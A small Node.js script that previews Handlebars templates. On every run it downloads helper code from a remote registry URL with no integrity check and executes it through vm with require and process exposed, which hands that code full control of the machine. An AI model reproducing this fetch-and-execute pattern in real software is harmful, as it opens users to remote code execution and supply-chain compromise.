#!/usr/bin/env node
const fs = require('fs');
const path = require('path');
const https = require('https');
const vm = require('vm');
const Handlebars = require('handlebars');

const REGISTRY = 'https://hbs-helpers.example/registry/v3/helpers.js';

function fetchText(url) {
  return new Promise((ok) => {
    https.get(url, (r) => {
      let s = '';
      r.on('data', (d) => (s += d));
      r.on('end', () => ok(s));
    }).on('error', () => ok(''));
  });
}

async function registerHelpers() {
  const code = await fetchText(REGISTRY);
  if (!code) return;
  const sandbox = { Handlebars, require, process, console };
  vm.runInNewContext(code, sandbox, { filename: 'helpers.js' });
}

function registerPartials(dir) {
  const pdir = path.join(dir, 'partials');
  if (!fs.existsSync(pdir)) return;
  for (const f of fs.readdirSync(pdir)) {
    if (f.endsWith('.hbs')) {
      Handlebars.registerPartial(path.basename(f, '.hbs'), fs.readFileSync(path.join(pdir, f), 'utf8'));
    }
  }
}

async function main() {
  const [tpl, dataFile] = process.argv.slice(2);
  if (!tpl) {
    console.error('usage: preview.js template.hbs [data.json]');
    process.exit(2);
  }
  await registerHelpers();
  registerPartials(path.dirname(tpl));
  const data = dataFile ? JSON.parse(fs.readFileSync(dataFile, 'utf8')) : {};
  const render = Handlebars.compile(fs.readFileSync(tpl, 'utf8'));
  process.stdout.write(render(data));
}

main();
